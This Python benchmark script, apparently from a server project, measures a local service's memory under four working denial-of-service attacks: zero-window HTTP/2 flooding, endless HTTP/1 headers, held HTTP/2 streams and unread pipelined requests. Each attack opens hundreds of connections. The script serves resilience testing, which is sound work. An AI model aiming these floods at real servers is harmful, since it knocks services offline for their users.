#!/usr/bin/env python3
"""Has strangers make a running svc use memory, and prints what it takes: benches/attacks.py PORT PROCESS

Each attack comes from eight loopback addresses that do not read or do not finish. docs/benchmarks.md has figures."""

import itertools
import socket
import struct
import sys
import time

PORT, PROCESS = int(sys.argv[1]), sys.argv[2]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS = 0, 1, 4
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def memory():
    """Resident memory in MiB: now, and at most so far."""
    with open(f"/proc/{PROCESS}/status") as status:
        sizes = dict(line.split(":", 1) for line in status)
    return [int(sizes[name].split()[0]) // 1024 for name in ("VmRSS", "VmHWM")]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string as HPACK writes it at its simplest; none here has more than 126 bytes."""
    return bytes([len(value)]) + value.encode()


def head(method, path, fields=()):
    always = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "svc.test")]
    return b"".join(b"\0" + text(name) + text(value) for name, value in [*always, *fields])


ADDRESSES = itertools.cycle(f"127.0.0.{n}" for n in range(2, 10))


def connect(begin):
    """A connection that sends this and reads nothing."""
    connection = socket.create_connection(("127.0.0.1", PORT), source_address=(next(ADDRESSES), 0))
    connection.settimeout(1)
    try:
        connection.sendall(begin)
    except OSError:
        pass  # It was closed, or takes no more.
    return connection


def zero_windows():
    """150 connections over HTTP/2, each asking for a large file 100 times, with windows of 0."""
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    ask = b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, head("GET", "/docs/swagger-ui.js")) for n in range(100)
    )
    return [connect(PREFACE + settings + ask) for _ in range(150)]


def endless_heads():
    """1,000 connections over HTTP/1 with a head that does not end."""
    return [connect(b"GET / HTTP/1.1\r\nhost: svc.test\r\nx: " + b"x" * 16_000) for _ in range(1_000)]


def held_streams():
    """150 connections over HTTP/2, each with 100 requests of 100 fields whose bodies do not end."""
    fields = [("content-type", "application/json")] + [("x", "y")] * 95
    begin = lambda stream: frame(HEADERS, END_HEADERS, stream, head("POST", "/api/v1/auth/login", fields))
    ask = b"".join(begin(2 * n + 1) + frame(DATA, 0, 2 * n + 1, b"x" * 600) for n in range(100))
    return [connect(PREFACE + frame(SETTINGS, 0, 0) + ask) for _ in range(150)]


def unread_pipelines():
    """500 connections over HTTP/1 that ask for a large file 50 times and read nothing."""
    return [connect(b"GET /docs/swagger-ui.js HTTP/1.1\r\nhost: svc.test\r\n\r\n" * 50) for _ in range(500)]


print(f"{'attack':20} {'before':>8} {'during':>8} {'after':>8} {'peak':>8}  (MiB)")
for attack in (zero_windows, endless_heads, held_streams, unread_pipelines):
    before, _ = memory()
    connections = attack()
    time.sleep(3)
    during, _ = memory()
    for connection in connections:
        connection.close()
    time.sleep(5)
    after, peak = memory()
    print(f"{attack.__name__:20} {before:8} {during:8} {after:8} {peak:8}")
